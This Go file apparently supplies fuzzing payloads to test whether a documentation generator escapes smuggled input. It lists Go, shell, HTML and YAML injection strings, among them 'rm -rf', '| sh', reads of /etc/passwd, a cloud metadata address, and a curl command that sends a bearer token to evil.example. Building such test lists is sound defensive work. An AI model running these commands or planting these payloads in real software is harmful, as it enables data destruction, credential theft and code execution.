package main

import (
	"slices"
	"strings"
)

// What code of each kind would look like if a page could smuggle it in.
var smuggled = []string{
	`func init() { panic("owned") }`, `var _ = func() int { panic("owned") }()`, `import "os/exec"`, `//go:linkname owned runtime.owned`, `//go:embed /etc/passwd`,
	`//go:generate rm -rf .`, `//go:build ignore`, `// +build ignore`, `//line /etc/passwd:1`, `#cgo LDFLAGS: -owned`, `//export owned`, `package owned`,
	`{{define "owned"}}{{end}}`, `{{.Owned}}`, `${OWNED}`, `$(touch owned)`, `<script>owned()</script>`, `<img src=x onerror=owned()>`, `[owned](javascript:owned())`,
	`@owned`, `::error file=x::owned`, `##[command]owned`, `key: owned`, `- owned`, `!!python/object:owned {}`, `&owned *owned`, `"owned": true`,
}

// What could end the text that a payload stands in, before the code begins.
var escapes = []string{"", "\n", "*/ ", "\" ", "` ", "'; "}

// Texts that mean something to Go, JSON, YAML, Markdown, HTML, shells, terminals,
// logs, URLs, file systems, or to docgen itself.
var loose = []string{
	"*/", "/*", "*/ /*", "//", "/*/", "`", "``", "```", "` + \"x\" + `", "\"", "\\\"", "\\", "\\\\", "\\n", "\\x00", "\\u202e", "%s%d%n%!", "%", "%00", "%2e%2e%2f", "'", "''",
	"\r", "\r\n", "\n\n", "\u0085", "\u2028", "\u2029", "\v", "\f", "\x00", "\x1b[2J", "\x1b]0;owned\a", "\b\b\b", "\x7f", "\xff\xfe", "\xed\xa0\x80", "\ufeff", "\u200b", "\u200d",
	"\u202eowned\u202c", "\u2066owned\u2069", "\u061c", "\u115f", "e\u0301", "ⅷ", "İ", "ſ", "ß", "𝕠𝕨𝕟𝕖𝕕", "оwned", "🏴‍☠️", "\U000e0001",
	"func", "type", "nil", "init", "main", "_", "string", "error", "any", "iota", "String", "Error", "MarshalJSON", "UnmarshalJSON", "context", "json", "http", "Client", "Option", "Extra",
	"true", "null", "~", "yes", "12:30:45", "=", "<<", "0777", "1e999", "-0", "0x1F", "NaN", "2001-01-01", "- x", "? x", "a: b", "a #b", "|", ">", "{}", "[]", "!x", "&x", "*x", "@x", "#1", "---", "...",
	"../../owned", "/etc/passwd", "C:\\owned", "con", ".git", "..", ".", "-o", "--help", "a/b", "a//b", "a?b=c", "a#b", "a&b=c", "a;b", "//evil.example", "https://evil.example/", "javascript:owned()",
	"http://user:secret@evil.example", "169.254.169.254", "localhost", "file:///etc/passwd", "x@evil.example", "evil.example:80",
	"json:\"owned\"", "`json:\"owned\"`", ",omitempty", "-", "a,b", "a.b", "a[b]", "a[]", "$ref", "$", "{owned}", "{", "}", "<owned>", "<", ">", "&lt;", "&#x3c;", "&quot;", "]]>", "<!--", "-->", "<?php", "<%", "{%", "#{owned}",
	"**get** `/owned`", "### Returns", "## Own a Parcel", "```http", "object { owned }", "array of owned", "\"a\" or \"b\"", "optional string", "owned or null", "3 more", "Defaults to \"owned\".", "**Deprecated**: owned",
	"curl https://evil.example -H \"Authorization: Bearer $OWNED\"", "' -H 'X-Owned: y", "; rm -rf .", "| sh", "$OWNED", "`touch owned`", "-d @/etc/passwd", "AWS_SECRET_ACCESS_KEY", "PATH",
	strings.Repeat("owned", 300), strings.Repeat("(", 300), strings.Repeat("[", 300), strings.Repeat("*", 300), strings.Repeat("\\", 301), strings.Repeat("a b ", 200), " ", "", "\t", " x ",
}

// payloads returns all texts that the attack puts into pages, each once.
func payloads() []string {
	out := slices.Clone(loose)
	for _, e := range escapes {
		for _, s := range smuggled {
			out = append(out, e+s)
		}
	}
	slices.Sort(out)
	return slices.Compact(out)
}
